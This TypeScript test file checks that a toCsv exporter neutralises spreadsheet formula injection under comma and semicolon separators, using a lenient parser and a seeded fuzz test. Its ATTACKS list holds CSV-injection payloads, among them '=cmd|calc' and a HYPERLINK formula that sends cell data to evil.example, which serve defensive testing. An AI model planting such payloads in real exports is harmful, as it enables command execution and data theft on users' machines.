import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/core/stats/csv.js';
import { prng } from '../../support/prng.js';

/**
 * Splits CSV the way Excel and Python's lenient `csv` module do: a quote opens a quoted cell
 * only at the start of a cell; after its closing quote, or inside an unquoted cell, quotes are
 * plain characters and the next separator or line break ends the cell. Reading a file with the
 * other separator than it was written with is exactly what a Dutch (`;`) or English (`,`) Excel
 * does with a foreign file.
 */
function parseCsv(text: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let state: 'start' | 'quoted' | 'quote-in-quoted' | 'plain' = 'start';
  const endCell = () => {
    row.push(cell);
    cell = '';
    state = 'start';
  };
  const endRow = () => {
    endCell();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    const lineBreak = c === '\n' || c === '\r';
    if (lineBreak && c === '\r' && text[i + 1] === '\n' && state !== 'quoted') i++;
    if (state === 'quoted') {
      if (c === '"') state = 'quote-in-quoted';
      else cell += c;
    } else if (state === 'quote-in-quoted' && c === '"') {
      cell += '"';
      state = 'quoted';
    } else if (c === separator) {
      endCell();
    } else if (lineBreak) {
      endRow();
    } else if (state === 'start' && c === '"') {
      state = 'quoted';
    } else {
      cell += c;
      state = 'plain';
    }
  }
  if (cell !== '' || row.length > 0) endRow();
  return rows;
}

/**
 * What a spreadsheet might run: a cell whose text, past white space (tab, CR and line breaks
 * included, which some readers strip) and quotes, starts with `=`, `+`, `-` or `@`.
 */
const dangerous = (cell: string): boolean => /^[\s"]*[=+\-@]/.test(cell);
/** Read with the separator it was written with, no cell may even start with a tab or CR. */
const startsWithControl = (cell: string): boolean => /^[\t\r]/.test(cell);

const ATTACKS = [
  '=cmd|calc',
  '+31 6 12345678',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'klacht;=HYPERLINK("https://evil.example/?d="&A1;"klik")',
  'klacht,=HYPERLINK("https://evil.example")',
  'a; -1',
  'a;"=1"',
  'x";=1+1',
  'x"",=1',
  'regel\n=1+1',
  'regel\r\n@x',
  '"",=1',
  ';;;+1',
];

describe('toCsv', () => {
  it('quotes every cell, header included, with CRLF line ends', () => {
    expect(toCsv([{ id: '1', tekst: 'hallo' }])).toBe('"id","tekst"\r\n"1","hallo"\r\n');
  });

  it('gives nothing for no rows', () => {
    expect(toCsv([])).toBe('');
  });

  it('puts an apostrophe before a formula at the start of a cell', () => {
    expect(toCsv([{ a: '=1+1', b: '+1', c: '-1', d: '@x', e: '\tx', f: '\rx' }]).split('\r\n')[1]).toBe(`"'=1+1","'+1","'-1","'@x","'\tx","'\rx"`);
  });

  it('neutralises a formula after a separator inside a value', () => {
    expect(toCsv([{ a: 'x;=HYPERLINK("u")' }]).split('\r\n')[1]).toBe(`"x;'=HYPERLINK(""u"")"`);
  });

  it.each([',', ';'] as const)('with %j as separator, no attack yields a cell that starts a formula', (separator) => {
    const csv = toCsv(ATTACKS.map((text, i) => ({ id: String(i), tekst: text, link: text })));
    const cells = parseCsv(csv, separator).flat();
    expect(cells.length).toBeGreaterThan(ATTACKS.length);
    expect(cells.filter(dangerous)).toEqual([]);
    if (separator === ',') expect(cells.filter(startsWithControl)).toEqual([]);
  });

  it('reads back every value with a comma as separator, apostrophes aside', () => {
    const rows = ATTACKS.map((text, i) => ({ id: String(i), tekst: text }));
    const parsed = parseCsv(toCsv(rows), ',');
    expect(parsed[0]).toEqual(['id', 'tekst']);
    expect(parsed.slice(1).map(([id, text]) => [id, text?.replaceAll("'", '')])).toEqual(rows.map((r) => [r.id, r.tekst]));
  });

  it('keeps apostrophes that were in the value', () => {
    const parsed = parseCsv(toCsv([{ a: "'t Hart, 'n zaak" }]), ',');
    expect(parsed[1]).toEqual(["'t Hart, 'n zaak"]);
  });

  it('survives a seeded fuzz of 3 000 values with either separator', () => {
    const random = prng(13);
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', ';', ' ', 'a', 'é', '('];
    const rows = Array.from({ length: 3000 }, (_, i) => {
      let text = '';
      const length = Math.floor(random() * 12);
      for (let k = 0; k < length; k++) text += alphabet[Math.floor(random() * alphabet.length)];
      return { id: String(i), tekst: text };
    });
    const csv = toCsv(rows);
    for (const separator of [',', ';'] as const) {
      expect(parseCsv(csv, separator).flat().filter(dangerous)).toEqual([]);
    }
    expect(parseCsv(csv, ',').flat().filter(startsWithControl)).toEqual([]);
    const back = parseCsv(csv, ',').slice(1);
    expect(back.map((r) => r[1]?.replaceAll("'", ''))).toEqual(rows.map((r) => r.tekst));
  });
});
